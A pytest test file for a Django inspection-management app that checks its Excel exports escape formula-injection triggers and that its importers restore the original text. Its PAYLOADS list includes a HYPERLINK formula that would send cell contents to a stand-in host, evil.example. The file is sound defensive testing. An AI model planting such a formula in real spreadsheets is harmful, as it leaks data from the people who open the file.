"""Formula injection: text a user typed never becomes a formula in any Excel the project writes.

Following OWASP (CSV/formula injection), a text cell starting with = + - @ tab or CR is written with a
leading single quote, as a plain string cell; the importers take the quote off again, so our own
exports re-import unchanged.
"""

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.importers import ENTERPRISE_HEADERS
from accounts.models import Enterprise
from core.excel import read_sheet, write_workbook
from core.imports import get_importer, importer_kinds
from core.models import ImportJob
from hazards.choices import HazardSource
from hazards.services import HazardData, hazard_create
from inspections.models import InspectionKind
from inspections.services import action_create, draw_create
from tests.factories import EnterpriseFactory, UserFactory, enterprise_row, xlsx_upload

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A2,"查看")', "+1+1", "-2+3", "@SUM(1)"]
TODAY = timezone.localdate()


def cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))  # not read-only: every cell with its data type
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert(content: bytes, expected: list[str]) -> None:
    """No formula anywhere; each expected text is there, visible, behind the escaping quote."""
    all_cells = cells(content)
    assert [c.coordinate for c in all_cells if c.data_type == "f"] == []
    texts = [c.value for c in all_cells if isinstance(c.value, str)]
    for text in expected:
        assert any(t == "'" + text or (t.startswith("'") and text in t) for t in texts), (text, texts)
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)


# ---------------------------------------------------------------- the writer itself


def test_write_workbook_escapes_every_formula_trigger_and_leaves_other_text_alone():
    rows = [[p] for p in [*PAYLOADS, "\tTAB", "\rCR", "'=already quoted", "正常文字", "a=b", -5, 3.5]]

    content = write_workbook(sheet_title="s", headers=["名称"], rows=rows)

    values = [c.value for c in cells(content)][1:]
    # A CR comes back as a line feed when openpyxl writes with its own XML writer, kept as CR when it
    # writes through lxml (installed with python-docx): either way it is text behind the quote.
    if values[5] == "'\rCR":
        values[5] = "'\nCR"
    assert values == [
        "'" + PAYLOADS[0],
        "'+1+1",
        "'-2+3",
        "'@SUM(1)",
        "'\tTAB",
        "'\nCR",  # XML reads a CR back as a line feed
        "''=already quoted",  # escaped again, so reading it back gives the same text
        "正常文字",
        "a=b",
        -5,  # numbers stay numbers
        3.5,
    ]
    assert_inert(content, PAYLOADS)


def test_read_sheet_takes_the_escape_off_again():
    rows = [[p] for p in [*PAYLOADS, "'=already quoted", "'plain quote"]]

    _headers, read = read_sheet(write_workbook(sheet_title="s", headers=["名称"], rows=rows))

    assert [r["名称"] for _n, r in read] == [*PAYLOADS, "'=already quoted", "'plain quote"]


# ---------------------------------------------------------------- every export


@pytest.fixture
def evil_firms(district, sectors):
    return [
        EnterpriseFactory(name=name, address=name, contact_person=name, jurisdiction=district.community_a)
        for name in PAYLOADS
    ]


def test_enterprise_export_is_inert_and_re_imports_unchanged(client, officer, evil_firms):
    client.force_login(officer)
    content = client.get(reverse("accounts:enterprise_export")).content
    before = sorted(Enterprise.objects.values_list("uscc", "name", "address", "contact_person"))

    assert_inert(content, PAYLOADS)
    result = get_importer("enterprises").run(user=officer, file=content)

    assert result.ok, result.errors
    assert (result.created, result.updated) == (0, len(PAYLOADS))
    assert sorted(Enterprise.objects.values_list("uscc", "name", "address", "contact_person")) == before

    Enterprise.history.all().delete()
    Enterprise.objects.all().delete()
    fresh = get_importer("enterprises").run(user=officer, file=content)
    assert fresh.created == len(PAYLOADS), fresh.errors
    assert sorted(Enterprise.objects.values_list("uscc", "name", "address", "contact_person")) == before


def certified(district, n: int) -> list:
    return [
        UserFactory(
            org_unit=district.dept_emergency,
            enforcement_cert_no=f"湘执{i}",
            enforcement_cert_expiry=TODAY + dt.timedelta(days=365),
        )
        for i in range(n)
    ]


def test_inspection_list_export_is_inert(client, officer, district, evil_firms):
    team = certified(district, 2)
    for name in PAYLOADS:
        action_create(
            user=officer,
            date=TODAY,
            organizer=district.dept_emergency,
            kind=InspectionKind.objects.get(code="routine"),
            members=team,
            enterprises=[evil_firms[0]],
            is_leader_led=True,
            leader_name=name,
            leader_level="district",
        )
    client.force_login(officer)

    content = client.get(reverse("inspections:action_export")).content

    assert_inert(content, PAYLOADS)


def test_hazard_export_is_inert(client, officer, evil_firms):
    for firm in evil_firms:
        data = HazardData(
            enterprise=firm,
            source=HazardSource.SELF_REPORT,
            description=firm.name,
            measures=firm.name,
            found_on=TODAY,
            deadline=TODAY + dt.timedelta(days=10),
            responsible_unit=firm.township,
        )
        hazard_create(user=officer, data=data)
    client.force_login(officer)

    content = client.get(reverse("hazards:hazard_export")).content

    assert_inert(content, PAYLOADS)


def test_draw_export_is_inert(client, officer, district, evil_firms):
    certified(district, 2)
    draw = draw_create(
        user=officer,
        organizer=district.dept_emergency,
        title=PAYLOADS[1],
        planned_date=TODAY + dt.timedelta(days=7),
        sector_ids=[],
        township_ids=[],
        risk_grade_ids=[],
        n=len(evil_firms),
        m=2,
        weighted_by_grade=False,
    )
    client.force_login(officer)

    content = client.get(reverse("inspections:draw_export", args=[draw.pk])).content

    assert_inert(content, PAYLOADS)
    ws = load_workbook(io.BytesIO(content)).active
    assert ws["A1"].value == "'+1+1 双随机抽取结果"


def test_import_error_list_is_inert(client, officer, district, django_capture_on_commit_callbacks):
    # Unknown townships, named in the error messages: every row fails. The file is one of our own
    # exports (a formula typed into Excel would arrive as an empty cell, see test_row_level_files).
    rows = [enterprise_row(单位名称=p, 所属街道=p) for p in PAYLOADS]
    upload = write_workbook(
        sheet_title="s",
        headers=ENTERPRISE_HEADERS,
        rows=[[r.get(h) for h in ENTERPRISE_HEADERS] for r in rows],
    )
    client.force_login(officer)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("core:import_upload", args=["enterprises"]), {"file": xlsx_upload(upload)}
        )
    job = ImportJob.objects.get()
    assert response.headers["Location"] == reverse("core:import_job", args=[job.pk])

    content = client.get(reverse("core:import_job_errors", args=[job.pk])).content

    assert_inert(content, [])
    messages = [c.value for c in cells(content) if isinstance(c.value, str)]
    for payload in PAYLOADS:
        assert any(payload[:15] in m for m in messages), payload  # echoed in the messages, as text
    assert Enterprise.objects.count() == 0


@pytest.mark.parametrize("kind", [k for k, _label in importer_kinds()])
def test_every_import_template_has_no_formula(client, officer, kind):
    client.force_login(officer)

    content = client.get(reverse("core:import_template", args=[kind])).content

    assert_inert(content, [])


def test_text_over_excels_cell_limit_is_cut_to_fit_so_the_file_still_opens():
    """Excel refuses a cell over 32,767 characters (it "repairs" the file); a description has no limit."""
    content = write_workbook(
        sheet_title="s", headers=["隐患描述"], rows=[["某" * 40_000], ["=" + "x" * 40_000]]
    )

    values = [c.value for c in cells(content)][1:]
    assert [len(v) for v in values] == [32_767, 32_767]
    assert values[0].endswith("…") and values[1].startswith("'=")
